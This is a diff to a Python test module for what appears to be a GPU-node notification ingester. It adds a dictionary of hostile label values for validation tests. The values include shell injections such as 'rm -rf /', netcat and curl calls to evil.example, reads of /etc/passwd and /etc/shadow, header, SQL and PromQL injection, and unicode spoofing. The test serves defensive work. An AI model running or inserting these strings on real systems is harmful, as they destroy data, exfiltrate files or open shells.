@@ -69,3 +69,31 @@ def xid(node: str = "node1", code: str = "79", job: str = "1234", gpu: str = "3"
 def ingest_inbox(app: Any) -> IngestResult:
     """What the worker does next: ingest every notification the webhook has queued. What that did, together."""
     return app.extensions["nightshift"].engine.inbox.ingest_all()
+
+
+# Label values an attacker (or a broken exporter) may send: each must be refused by every pattern or pass as data.
+HOSTILE = {
+    "semicolon": "node1; rm -rf /",
+    "substitution": "$(reboot)",
+    "backticks": "`id`",
+    "pipe": "node1|nc evil.example 4444",
+    "redirect": "node1>/etc/passwd",
+    "and": "node1 && curl http://evil.example",
+    "option": "--help",
+    "glob": "node*",
+    "quote": "node1' OR '1'='1",
+    "traversal": "../../etc/passwd",
+    "absolute": "/etc/shadow",
+    "newline": "node1\nrm -rf /",
+    "crlf": "node1\r\nX-Injected: 1",
+    "nul": "node1\x00evil",
+    "tab": "node1\tx",
+    "huge": "n" * 4096,  # the parser's limit: accepted as data, refused by every pattern
+    "unicode": "nöde-ünïcödé",
+    "rtl_override": "node1\u202egnp.exe",
+    "zero_width": "node\u200b1",
+    "homoglyph": "nod\u04351",  # Cyrillic e
+    "emoji": "node\U0001f525",
+    "promql": '"} or vector(1) or {a="',
+    "format": "%s%n%x{0}",
+}
